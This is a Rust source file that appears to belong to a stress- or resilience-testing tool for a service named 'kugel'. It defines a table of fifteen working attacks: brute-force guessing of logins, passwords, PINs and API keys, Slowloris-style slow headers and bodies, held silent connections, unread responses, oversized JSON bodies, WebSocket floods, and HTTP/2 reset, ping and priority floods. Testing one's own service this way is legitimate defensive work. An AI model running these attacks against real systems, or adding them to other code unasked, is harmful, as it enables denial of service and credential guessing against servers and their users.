//! The attacks, one row each.

use std::time::Duration;

use futures::future::BoxFuture;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;

use crate::target::Target;
use crate::{guesses, http2};

/// An attack.
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    /// How many do it at the same time.
    pub(crate) attackers: usize,
    /// What is counted.
    pub(crate) what: &'static str,
    pub(crate) act: fn(Target) -> BoxFuture<'static, ()>,
}

macro_rules! attack {
    ($name:literal, $attackers:literal, $what:literal, $act:path) => {
        Attack {
            name: $name,
            attackers: $attackers,
            what: $what,
            act: |target| Box::pin($act(target)),
        }
    };
}

pub(crate) const ATTACKS: [Attack; 15] = [
    attack!("logins", 64, "logins", guesses::logins),
    attack!("hung-up-logins", 64, "logins nobody waited for", guesses::hung_up),
    attack!("passwords", 16, "guesses at one password", guesses::passwords),
    attack!("pins", 16, "guesses at one PIN", guesses::pins),
    attack!("keys", 16, "invented API keys", guesses::keys),
    attack!("names", 16, "invented methods", names),
    attack!("silent", 8, "connections that said nothing", silent),
    attack!("slow-heads", 8, "heads letter by letter", slow_heads),
    attack!("slow-bodies", 8, "bodies letter by letter", slow_bodies),
    attack!("unread", 8, "answers nobody read", unread),
    attack!("large-bodies", 8, "bodies of 8 MB", large_bodies),
    attack!("websockets", 8, "WebSockets", websockets),
    attack!("resets", 4, "streams begun and reset", http2::resets),
    attack!("pings", 4, "pings", http2::pings),
    attack!("priorities", 4, "priorities", http2::priorities),
];

/// Sends a request on a connection of its own and reads what comes first.
pub(crate) async fn ask(target: &Target, request: &[u8]) {
    let Some(mut stream) = target.connect().await else {
        return tokio::time::sleep(Duration::from_millis(5)).await;
    };
    target.count();
    if stream.write_all(request).await.is_ok() {
        let mut answer = [0; 1024];
        let _ = tokio::time::timeout(Duration::from_secs(5), stream.read(&mut answer)).await;
    }
}

/// A request by HTTP/1.1 after which the connection closes.
pub(crate) fn post(path: &str, headers: &str, body: &str) -> Vec<u8> {
    let length = body.len();
    format!("POST {path} HTTP/1.1\r\nhost: kugel\r\nconnection: close\r\ncontent-length: {length}\r\n{headers}\r\n{body}").into()
}

async fn names(target: Target) {
    while target.goes_on() {
        let path = format!("/kugel.cart.v1.CartService/Invented{}", rand::random::<u32>());
        ask(
            &target,
            &post(&path, "content-type: application/grpc-web+proto\r\n", ""),
        )
        .await;
    }
}

/// Opens connections and holds on to as many as the server takes, each with `first` said and then a letter a second.
async fn hold(target: Target, first: &'static str, letter: &'static [u8]) {
    let mut held: Vec<TcpStream> = Vec::new();
    while target.goes_on() {
        for _ in 0..16 {
            if let Some(mut stream) = target.connect().await {
                target.count();
                if stream.write_all(first.as_bytes()).await.is_ok() {
                    held.push(stream);
                }
            }
        }
        if !letter.is_empty() {
            for stream in &mut held {
                let _ = stream.write_all(letter).await;
            }
        }
        // More of one attacker is only more of the same.
        if held.len() > 1_000 {
            held.drain(..100);
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}

async fn silent(target: Target) {
    hold(target, "", b"").await;
}

async fn slow_heads(target: Target) {
    hold(target, "GET /health HTTP/1.1\r\nhost: kugel\r\nx-slow: ", b"a").await;
}

async fn slow_bodies(target: Target) {
    let head = "POST /api/v1/accounts/token HTTP/1.1\r\nhost: kugel\r\ncontent-length: 1000000\r\n\
                content-type: application/x-www-form-urlencoded\r\n\r\n";
    hold(target, head, b"a").await;
}

/// Asks for the longest answer there is, and reads nothing.
async fn unread(target: Target) {
    const QUESTIONS: &str = "GET /openapi.json HTTP/1.1\r\nhost: kugel\r\n\r\n";
    hold(target, QUESTIONS, QUESTIONS.as_bytes()).await;
}

async fn large_bodies(target: Target) {
    let body = format!("[{}]", "[],".repeat(8 << 18));
    while target.goes_on() {
        let headers = "content-type: application/json\r\nauthorization: Bearer x\r\n";
        ask(&target, &post("/api/v1/carts", headers, &body)).await;
    }
}

async fn websockets(target: Target) {
    let handshake = format!(
        "GET /ws/{}/tk01?token={} HTTP/1.1\r\nhost: kugel\r\nupgrade: websocket\r\nconnection: upgrade\r\n\
         sec-websocket-version: 13\r\nsec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n",
        target.tenant, target.token
    );
    hold(target, handshake.leak(), b"").await;
}
